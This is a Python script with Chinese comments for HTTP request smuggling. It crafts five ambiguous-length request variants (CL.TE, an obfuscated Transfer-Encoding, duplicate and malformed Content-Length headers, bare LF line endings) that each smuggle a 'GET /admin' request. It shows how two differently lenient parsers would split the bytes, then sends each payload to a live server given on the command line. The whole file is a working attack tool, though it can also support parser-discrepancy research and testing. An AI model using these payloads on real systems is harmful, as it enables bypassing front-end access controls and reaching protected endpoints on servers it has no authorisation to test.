"""同样的字节,两台宽松的机器各看到几个请求;再发给真的服务器看看。用法:http_smuggle.py 服务器地址"""
import re
import socket
import sys

NEXT = b"GET /admin HTTP/1.1\r\nHost: a\r\n\r\n"
CHUNKS = b"0\r\n\r\n" + NEXT
SHAPES = {
    "两种长度都有": (b"Content-Length: %d\r\nTransfer-Encoding: chunked\r\n", CHUNKS),
    "不认识的编码": (b"Content-Length: %d\r\nTransfer-Encoding: xchunked\r\n", CHUNKS),
    "两个长度": (b"Content-Length: 0\r\nContent-Length: %d\r\n", NEXT),
    "冒号前有空格": (b"Content-Length : %d\r\n", NEXT),
    "行尾只有 LF": (b"X: a\nContent-Length: %d\r\n", NEXT),
}


def lenient(lines):
    """甲:LF 也是行尾,名字去掉空白,只认最后一个 Content-Length。"""
    fields = [line.split(b":", 1) for line in re.split(rb"\r?\n", lines) if b":" in line]
    lengths = [int(value) for name, value in fields if name.strip() == b"Content-Length"]
    return lengths[-1] if lengths else 0


def literal(lines):
    """乙:看见 chunked 就是分块(这里的块都是空的),不然认第一个 Content-Length。"""
    fields = [line.split(b":", 1) for line in lines.split(b"\r\n") if b":" in line]
    if any(name == b"Transfer-Encoding" and b"chunked" in value for name, value in fields):
        return len(b"0\r\n\r\n")
    return next((int(value) for name, value in fields if name == b"Content-Length"), 0)


def requests(data, length):
    """照 length 的看法,这些字节里有几个请求。"""
    seen = []
    while data:
        head, _, data = data.partition(b"\r\n\r\n")
        seen.append(head.split(b" HTTP/")[0].decode())
        data = data[length(head):]
    return "、".join(seen)


host, port = sys.argv[1].rsplit(":", 1)
for name, (fields, body) in SHAPES.items():
    data = b"POST / HTTP/1.1\r\nHost: a\r\n" + fields % len(body) + b"\r\n" + body
    print(f"{name}:甲 {requests(data, lenient)};乙 {requests(data, literal)}")
    with socket.create_connection((host, int(port)), timeout=5) as sock:
        sock.sendall(data)
        received = b"".join(iter(lambda: sock.recv(4096), b""))
    answers = re.findall(rb"^HTTP/1.1 (\d+)", received, re.MULTILINE)
    print(f"    服务器:{b' '.join(answers).decode()},然后关闭")
